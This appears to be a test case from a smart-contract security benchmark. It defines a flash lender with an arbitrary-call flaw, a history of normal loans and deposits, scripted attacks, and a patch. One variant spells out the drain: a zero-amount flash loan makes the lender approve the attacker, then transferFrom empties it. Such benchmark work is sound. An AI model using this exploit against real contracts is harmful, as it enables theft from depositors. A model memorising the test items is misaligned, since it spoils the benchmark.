import { declareCase } from '../lib/declare-case.ts'
import { crowd, deployWallet, ETHER, fundAll } from '../lib/set-up.ts'
import { actor, call, encode, reverting, strike, through } from '../lib/steps.ts'
import type { Contract } from '../lib/types.ts'

const NAME = 'flash-lender'
const owner = actor(`${NAME}/owner`)
const issuer = actor(`${NAME}/issuer`)
const attacker = actor(`${NAME}/attacker`)
const users = crowd(NAME, 8)
const units = (amount: number) => BigInt(amount) * ETHER

export default declareCase({
  about:
    'a flash lender makes any call its borrower asks for, even one to the token it lends and may take from depositors',
  class: 'arbitrary-call',
  hardfork: 'cancun',
  units: [
    { compiler: '0.8.19', optimizerRuns: 200, files: ['FlashLender.sol'] },
    { compiler: '0.8.30', optimizerRuns: 200, evmVersion: 'london', files: ['Attack.sol'] },
  ],

  async setUp(world) {
    await fundAll(world, [owner, issuer, attacker, ...users], 10n * ETHER)
    const token = await world.deploy('StandardToken', ['Dollar', 'USDX', 18], issuer)
    const lender = await world.deploy('FlashLender', [token.address, 10], owner)
    const wallet = await deployWallet(world, users[0]!)
    const takers = [
      await world.deploy('LoanTaker', [token.address], users[5]!),
      await world.deploy('LoanTaker', [token.address], users[6]!),
    ]
    for (const holder of [...users, wallet.address, ...takers.map((taker) => taker.address)])
      await world.run(call(issuer, token, 'mint', [holder, units(6_000)]))
    const approval = [lender.address, 2n ** 256n - 1n]
    for (const user of users) await world.run(call(user, token, 'approve', approval))
    await world.run(through(wallet.address, call(users[0]!, token, 'approve', approval)))
    for (const user of users.slice(0, 5)) await world.run(call(user, lender, 'deposit', [units(3_500)]))
    return { lender, token, wallet, takers }
  },
  protect: ({ lender }) => [lender],
  loss: ({ lender, token }) => [
    { token: token.address, from: lender.address },
    { token: token.address, from: users[1]! },
  ],

  history({ lender, wallet, takers: [first, second] }) {
    const by = (user: number, name: string, args: readonly unknown[]) =>
      call(users[user]!, lender, name, args)
    const byWallet = (name: string, args: readonly unknown[]) => through(wallet.address, by(0, name, args))
    const loan = (taker: Contract, amount: bigint, feeBps: bigint): readonly unknown[] => {
      const owed = amount + (amount * feeBps) / 10_000n
      return [amount, taker.address, taker.address, encode(taker, 'repay', [lender.address, owed])]
    }
    const twoStepLoan = (amount: bigint, feeBps: bigint): readonly unknown[] => {
      const owed = amount + (amount * feeBps) / 10_000n
      return [
        amount,
        first!.address,
        [first!.address, second!.address],
        [encode(first!, 'work', [second!.address, amount]), encode(second!, 'repay', [lender.address, owed])],
      ]
    }
    return [
      by(5, 'flashLoan', loan(first!, units(9_000), 10n)),
      by(6, 'flashLoan', loan(second!, units(2_000), 10n)),
      byWallet('deposit', [units(2_500)]),
      byWallet('flashLoan', loan(first!, units(500), 10n)),
      reverting(by(5, 'flashLoan', loan(first!, units(400), 0n))),
      by(1, 'withdraw', [units(1_000)]),
      by(2, 'moveShares', [users[7], units(300)]),
      by(7, 'withdraw', [units(300)]),
      reverting(by(7, 'withdraw', [units(1)])),
      by(5, 'flashLoanVia', twoStepLoan(units(4_000), 10n)),
      byWallet('flashLoanVia', twoStepLoan(units(80), 10n)),
      by(6, 'flashLoan', loan(second!, 0n, 10n)),
      by(3, 'deposit', [units(1_200)]),
      by(4, 'depositFor', [wallet.address, units(600)]),
      byWallet('moveShares', [users[4], units(100)]),
      by(6, 'flashLoan', loan(second!, units(15_000), 10n)),
      reverting(by(6, 'flashLoan', loan(second!, units(90_000), 10n))),
      call(owner, lender, 'setFee', [5]),
      by(5, 'flashLoan', loan(first!, units(7_000), 5n)),
      reverting(by(5, 'setFee', [0])),
      call(owner, lender, 'setFee', [0]),
      by(6, 'flashLoan', loan(second!, units(11_000), 0n)),
      by(7, 'flashLoan', loan(second!, 1n, 0n)),
      call(owner, lender, 'setFee', [20]),
      reverting(call(owner, lender, 'setFee', [2_000])),
      byWallet('withdraw', [units(900)]),
      call(owner, lender, 'flashLoan', loan(first!, units(100), 20n)),
      by(5, 'flashLoanVia', twoStepLoan(0n, 20n)),
      call(owner, lender, 'setPaused', [true]),
      reverting(by(5, 'flashLoan', loan(first!, units(100), 20n))),
      by(3, 'withdraw', [units(700)]),
      call(owner, lender, 'setPaused', [false]),
      by(5, 'flashLoan', loan(first!, units(100), 20n)),
      by(2, 'deposit', [units(950)]),
      byWallet('flashLoan', loan(second!, units(1_300), 20n)),
      by(4, 'withdraw', [units(2_000)]),
      by(6, 'flashLoanVia', twoStepLoan(units(3_000), 20n)),
    ]
  },

  attack: ({ lender, token }, { LenderPuppeteer }) =>
    strike(attacker, LenderPuppeteer!, {
      args: [],
      run: 'run',
      with: [lender.address, token.address, users[1]],
    }),
  variants: ({ lender, token }, { LenderPuppeteer }) => [
    strike(attacker, LenderPuppeteer!, {
      args: [],
      run: 'runOnDepositors',
      with: [lender.address, token.address, [users[2], users[1], users[6]]],
    }),
    strike(attacker, LenderPuppeteer!, {
      args: [],
      run: 'runVia',
      with: [lender.address, token.address, units(6_500)],
    }),
    [
      call(attacker, lender, 'flashLoan', [
        0n,
        attacker,
        token.address,
        encode(token, 'approve', [attacker, units(5_000)]),
      ]),
      call(attacker, token, 'transferFrom', [lender.address, attacker, units(5_000)]),
    ],
  ],
  fix: [
    {
      file: 'FlashLender.sol',
      replace: '        target.functionCall(data);\n',
      by: '        if (target == address(token)) revert NothingToDo();\n        target.functionCall(data);\n',
    },
    {
      file: 'FlashLender.sol',
      replace: '        for (uint256 i = 0; i < 2; i++) targets[i].functionCall(data[i]);\n',
      by: '        for (uint256 i = 0; i < 2; i++) {\n            if (targets[i] == address(token)) revert NothingToDo();\n            targets[i].functionCall(data[i]);\n        }\n',
    },
  ],
})
